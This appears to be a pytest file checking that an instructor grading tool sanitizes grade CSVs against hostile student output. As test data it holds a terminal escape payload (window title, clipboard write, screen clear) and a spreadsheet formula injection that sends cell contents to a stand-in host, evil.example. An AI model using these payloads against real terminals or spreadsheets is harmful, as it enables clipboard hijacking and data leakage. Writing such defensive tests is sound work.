"""Hostile students against the instructor's terminal: what a student's code printed or raised reaches the grade
CSVs (a graded test's message quotes the exception the student's function raised), and instructors ``cat`` or
``column`` those files.  Seen through the real commands: ``raise ValueError("\\x1b]52;c;...\\x07")`` in an answer
put a clipboard write, a window title and a screen clear into ``grades.csv`` and ``grades_by_cell.csv``."""
from __future__ import annotations

import csv
import re

from ddpm_instructor import grades

ESC = "\x1b]0;PWNED\x07\x1b]52;c;cHduZWQ=\x07\x1b[2J\x9b31m\rover"


def test_grade_csvs_carry_no_terminal_escape_sequences(tmp_path):
    path = tmp_path / "grades_by_cell.csv"
    rows = [dict(student_id="canvas-222", assignment="02", notebook="02", cell="test_x", kind="autograded",
                 score=0.0, max_score=3.0, needs_manual_grade=False,
                 message=f"linear_beta_schedule(1200,) raised ValueError: {ESC}.", comment="line one\nline two")]
    grades._write_csv(path, grades.CELL_COLUMNS, rows)
    text = path.read_text()
    assert not re.search(r"[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f-\x9f]", text), repr(text)
    (row,) = list(csv.DictReader(path.open(newline="")))
    assert "raised ValueError: \\x1b]0;PWNED\\x07" in row["message"]          # still says what was raised
    assert row["comment"] == "line one\nline two"                               # the grader's own text as written


def test_a_name_or_message_that_starts_a_formula_is_written_as_text(tmp_path):
    """A roster name or a student's exception message like ``=HYPERLINK(...)`` must not become a formula when the
    instructor opens grades.csv or the LMS import file in a spreadsheet."""
    path = tmp_path / "grades_by_cell.csv"
    rows = [dict(student_id="canvas-222", assignment="02", notebook="02", cell="test_x", kind="autograded",
                 score=0.0, max_score=3.0, needs_manual_grade=False,
                 message='=HYPERLINK("http://evil.example/?"&A1,"click")', comment="@SUM(A1:A9)"),
            dict(student_id="canvas-333", assignment="02", notebook="02", cell="test_y", kind="autograded",
                 score=3.0, max_score=3.0, needs_manual_grade=False, message="-2.5 is a number", comment="-1")]
    grades._write_csv(path, grades.CELL_COLUMNS, rows)
    first, second = list(csv.DictReader(path.open(newline="")))
    assert first["message"].startswith("'=HYPERLINK(") and first["comment"] == "'@SUM(A1:A9)", first
    assert second["comment"] == "-1", second                                   # a negative number stays a number
    assert second["message"] == "'-2.5 is a number", second                    # text that starts with - does not
